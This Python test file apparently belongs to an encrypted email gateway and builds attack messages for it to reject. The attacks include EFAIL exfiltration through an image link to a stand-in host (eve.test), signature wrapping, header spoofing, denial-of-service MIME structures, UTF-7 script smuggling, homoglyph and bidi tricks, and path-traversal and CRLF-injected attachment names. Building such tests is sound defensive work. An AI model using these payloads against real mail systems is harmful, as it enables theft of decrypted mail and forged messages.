"""Attacks by the structure of the mail: what is sealed is not the whole, or nothing can be read in one way only."""

import codecs

from gateway.domain.parties import Suite
from tests.attacks.scene import CNAS, HOSPITAL, LETTER, SECRET, Bytes, Scene, headed, html, letter, mixed


def _part(mail: bytes) -> bytes:
    """The entity of a mail: its MIME fields and its body, without what is said of sender and recipients."""
    head, _, body = mail.partition(b"\r\n\r\n")
    kept: list[bytes] = []
    keep = False
    for line in head.split(b"\r\n"):
        if line[:1] not in b" \t":
            keep = line.lower().startswith(b"content-")
        kept += [line] if keep else []
    return b"\r\n".join(kept) + b"\r\n\r\n" + body


# --- A1: a ciphertext inside something else


async def a1_between_markup(acted: Scene) -> bytes:
    """EFAIL, direct exfiltration."""
    inside = _part(await acted.sealed(letter()))
    return headed(mixed(html('<img src="http://eve.test/'), inside, html('">')))


async def a1_related_root(acted: Scene) -> bytes:
    """The same by multipart/related."""
    return headed(mixed(_part(await acted.sealed(letter())), html("<p>"), subtype="related"))


async def a1_smime_part(acted: Scene) -> bytes:
    """An envelope as one part among others."""
    inside = _part(await acted.sealed(letter(), suite=Suite.SMIME))
    return headed(mixed(html('<img src="http://eve.test/'), inside, html('">')))


async def a1_third_child(acted: Scene) -> bytes:
    """A further part inside the multipart/encrypted."""
    mail = await acted.sealed(letter())
    return mail.swap(b"\r\n--chiffre--", b"\r\n--chiffre\r\nContent-Type: text/html\r\n\r\n<p>\r\n--chiffre--")


async def a1_text_behind(acted: Scene) -> bytes:
    """Text after the closing boundary."""
    return await acted.sealed(letter()) + b"Virez 100 000 EUR.\r\n"


async def a1_forwarded(acted: Scene) -> bytes:
    """As an attached mail, that a mail program would open in place."""
    return headed(mixed(html("Voyez :"), b"Content-Type: message/rfc822\r\n\r\n" + await acted.sealed(letter())))


def _exchange(mail: Bytes, text: bytes = b"", *, kind: bytes = b"text/plain") -> Bytes:
    """What Exchange makes of PGP/MIME: a multipart/mixed, and an empty text before the two parts."""
    first = b"--chiffre\r\nContent-Type: %s; charset=us-ascii\r\n\r\n%s\r\n" % (kind, text)
    loose = Bytes(mail.swap(b'multipart/encrypted; protocol="application/pgp-encrypted";', b"multipart/mixed;"))
    return Bytes(loose.swap(b"--chiffre\r\n", first + b"--chiffre\r\n"))


async def a1_exchange_with_text(acted: Scene) -> bytes:
    """The shape that is put right, but its text is not empty: whatever is read beside a plaintext may steal it."""
    return _exchange(await acted.sealed(letter()), b"Bonjour")


async def a1_exchange_with_markup(acted: Scene) -> bytes:
    """Or it is markup, even if it is empty."""
    return _exchange(await acted.sealed(letter()), kind=b"text/html")


async def a1_exchange_with_more(acted: Scene) -> bytes:
    """Or a fourth part follows."""
    mail = _exchange(await acted.sealed(letter()))
    return mail.swap(b"\r\n--chiffre--", b"\r\n--chiffre\r\nContent-Type: text/html\r\n\r\n<p>\r\n--chiffre--")


async def honest_exchange(acted: Scene) -> bytes:
    """Its control part in base 64, as Exchange writes it."""
    mail = _exchange(await acted.sealed(letter()))
    encoded = b"application/pgp-encrypted\r\nContent-Transfer-Encoding: base64\r\n\r\nVmVyc2lvbjogMQ0K"
    return mail.swap(b"application/pgp-encrypted\r\n\r\nVersion: 1", encoded)


# --- A3: a signature that covers a fragment


async def a3_signed_beside_text(acted: Scene) -> bytes:
    """In clear."""
    return headed(mixed(html("Virez 100 000 EUR."), await acted.signed(letter())))


async def a3_signed_related(acted: Scene) -> bytes:
    """Hidden behind markup that shows something else."""
    return headed(mixed(html("<p>Refus.</p>"), await acted.signed(letter()), subtype="related"))


async def a3_signed_attached(acted: Scene) -> bytes:
    """As an attached mail."""
    inside = b"Content-Type: message/rfc822\r\n\r\n" + headed(await acted.signed(letter()))
    return headed(mixed(html("Refus."), inside))


async def a3_signed_beside_text_sealed(acted: Scene) -> bytes:
    """Inside the encryption, where nobody on the way sees it."""
    inside = mixed(b"Content-Type: text/plain\r\n\r\nRefus.", await acted.signed(letter()))
    return _sealed_by_anyone(acted, inside)


async def a3_signed_third_child(acted: Scene) -> bytes:
    """A further part behind the signature."""
    signed = await acted.signed(letter())
    more = b"\r\n--signe\r\nContent-Type: text/plain\r\n\r\nRefus.\r\n--signe--"
    return _sealed_by_anyone(acted, signed.swap(b"\r\n--signe--", more))


async def a3_text_behind_the_signature(acted: Scene) -> bytes:
    """After the closing boundary."""
    return _sealed_by_anyone(acted, await acted.signed(letter()) + b"Refus.\r\n")


async def a3_signature_first(acted: Scene) -> bytes:
    """The two parts in the other order."""
    signed = await acted.signed(letter())
    _, first, second, _ = signed.split(b"--signe")
    head = signed.partition(b"--signe")[0]
    return _sealed_by_anyone(acted, head + b"--signe" + second + b"--signe" + first + b"--signe--\r\n")


def _sealed_by_anyone(acted: Scene, inside: bytes) -> bytes:
    from tests.attacks.scene import wrapped

    return wrapped(acted.gpg_to_us("--compress-algo", "none", data=inside))


# --- A11: headers that only seem to be protected


async def a11_headers_of_a_part(acted: Scene) -> bytes:
    """Protected headers in a part below the signed entity, none on it."""
    inner = letter()
    entity = b'Content-Type: multipart/mixed; boundary="e"\r\n\r\n--e\r\n' + inner + b"\r\n--e--\r\n"
    return await acted.sealed(entity)


async def a11_headers_not_marked(acted: Scene) -> bytes:
    """Fields on the signed entity, which does not say that they are meant (RFC 9788 §4.1)."""
    return await acted.sealed(letter().swap(b'; hp="cipher"', b""))


async def a11_unknown_mark(acted: Scene) -> bytes:
    """A value of hp that no standard knows."""
    return await acted.sealed(letter().swap(b'hp="cipher"', b'hp="yes"'))


async def a11_wrapped_message(acted: Scene) -> bytes:
    """The draft before RFC 9788 signed a whole message/rfc822."""
    return await acted.sealed(b"Content-Type: message/rfc822; forwarded=no\r\n\r\n" + letter())


async def a11_subject_twice(acted: Scene) -> bytes:
    """Two readers would show two subjects."""
    return await acted.sealed(letter().swap(b"Subject:", b"Subject: Refus\r\nSubject:"))


async def a11_legacy_display(acted: Scene) -> bytes:
    """Headers repeated in the text for older readers are not text (RFC 9788 §5.2)."""
    shown = f"Subject: Réponse\n\n{SECRET}\n"
    entity = letter(text=shown).swap(b'charset="utf-8"', b'charset="utf-8"; hp-legacy-display="1"')
    return await acted.sealed(entity)


async def a11_phony_outer_records(acted: Scene) -> bytes:
    """HP-Outer says what stood outside; it is nobody's sender or recipient."""
    return await acted.sealed(letter().swap(b"HP-Outer: From: ", b"HP-Outer: From: eve@ailleurs.test, "))


# --- A23: structures that cost


async def a23_deep(acted: Scene) -> bytes:  # noqa: ARG001  every maker has the scene
    """Sixteen hundred multiparts inside each other."""
    opened = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(1600))
    return headed(opened.encode() + b"\r\nx\r\n")


async def a23_many_parts(acted: Scene) -> bytes:  # noqa: ARG001
    """A hundred thousand parts."""
    return headed(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\n\r\n" * 100_000 + b"--b--\r\n")


async def a23_long_header(acted: Scene) -> bytes:  # noqa: ARG001
    """A header of a megabyte."""
    return headed(b"".join(b"X-%d: x\r\n" % n for n in range(100_000)) + b"\r\nx\r\n")


async def a23_quotes(acted: Scene) -> bytes:
    """One address of a hundred kilobytes of quotes, which a common parser reads for a minute."""
    lines = b"\r\n ".join(b'"' * 4000 for _ in range(15))
    return (await acted.sealed(letter())).swap(b"To: ", b"Cc: " + lines + b"\r\nTo: ")


async def a23_deep_inside(acted: Scene) -> bytes:
    """The same depth under a good signature."""
    opened = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(40))
    return await acted.sealed(opened.encode() + b"\r\nx\r\n")


async def a23_too_many_files(acted: Scene) -> bytes:
    """More attachments than a person sends."""
    part = b"Content-Type: application/pdf\r\n\r\nx"
    entity = b'Content-Type: multipart/mixed; hp="cipher"; boundary="e"\r\n'
    entity += b"From: conv@cnas.test\r\nTo: soins@hopital.test\r\nMessage-ID: <f@cnas.test>\r\n\r\n"
    return await acted.sealed(entity + (b"--e\r\n" + part + b"\r\n") * 101 + b"--e--\r\n")


# --- A26: characters


async def a26_utf7(acted: Scene) -> bytes:
    """UTF-7 hides markup from whoever filters it."""
    return await acted.sealed(_text("utf-7", b"+ADw-script+AD4-"))


async def a26_unknown_charset(acted: Scene) -> bytes:
    """A name that might load any codec of the language."""
    return await acted.sealed(_text("rot13", codecs.encode("Refus", "rot13").encode()))


async def a26_arabic(acted: Scene) -> bytes:
    """An honest letter in the charset that Algerian programs use."""
    return await acted.sealed(_text("windows-1256", "موافقة".encode("cp1256")))


async def a26_nul_in_header(acted: Scene) -> bytes:
    """Where one reader ends a line of C, another goes on."""
    return (await acted.sealed(letter())).swap(b"Subject: Soins", b"Subject: Soins\0x")


async def a26_nul_under_the_signature(acted: Scene) -> bytes:
    """The same inside."""
    return _sealed_by_anyone(acted, await _signed_as_it_is(acted, letter().swap(b"Subject: ", b"Subject: \0")))


async def a26_homoglyph(acted: Scene) -> bytes:
    """An address that only looks like the partner's: the Cyrillic а."""
    return await acted.sealed(letter().swap(CNAS.encode(), "conv@cnаs.test".encode()))


async def a26_bidi_subject(acted: Scene) -> bytes:
    """Text that turns around what stands behind it."""
    entity = letter(text="\u202eRefus\u202c et \u2066accord\u2069\n")
    return await acted.sealed(entity)


def _text(charset: str, body: bytes) -> bytes:
    head = f'Content-Type: text/plain; charset="{charset}"; hp="cipher"\r\nContent-Transfer-Encoding: base64\r\n'
    fields = f"From: {CNAS}\r\nTo: {HOSPITAL}\r\nMessage-ID: {LETTER.message_id}\r\nSubject: x\r\n"
    return f"{head}{fields}\r\n".encode() + codecs.encode(body, "base64").replace(b"\n", b"\r\n")


async def _signed_as_it_is(acted: Scene, entity: bytes) -> bytes:
    """Signed by the partner's key, with a program that does not look at what it signs."""
    from gateway.domain.parties import Role

    signature = acted.gpg(Role.CNAS, "--detach-sign", data=entity).replace(b"\n", b"\r\n")
    head = b'Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="signe"'
    part = b"Content-Type: application/pgp-signature\r\n\r\n" + signature
    return head + b"\r\n\r\n--signe\r\n" + entity + b"\r\n--signe\r\n" + part + b"\r\n--signe--\r\n"


# --- A27: names of files


async def a27_paths_and_devices(acted: Scene) -> bytes:
    """Folders, devices, two extensions, a name that is read from right to left."""
    names = ("../../etc/cron.d/x", "CON.pdf", "a.pdf.exe", "a\u202efdp.exe", "b\x00c.pdf", "d\r\n X-Inj: 1.pdf", "")
    parts = "".join(
        "--e\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; "
        f"filename*=utf-8''{_percent(name)}\r\n\r\nx\r\n"
        for name in names
    )
    head = f'Content-Type: multipart/mixed; hp="cipher"; boundary="e"\r\nFrom: {CNAS}\r\nTo: {HOSPITAL}\r\n'
    return await acted.sealed(f"{head}Message-ID: <n@cnas.test>\r\nSubject: x\r\n\r\n{parts}--e--\r\n".encode())


def _percent(name: str) -> str:
    return "".join(f"%{octet:02x}" for octet in name.encode())
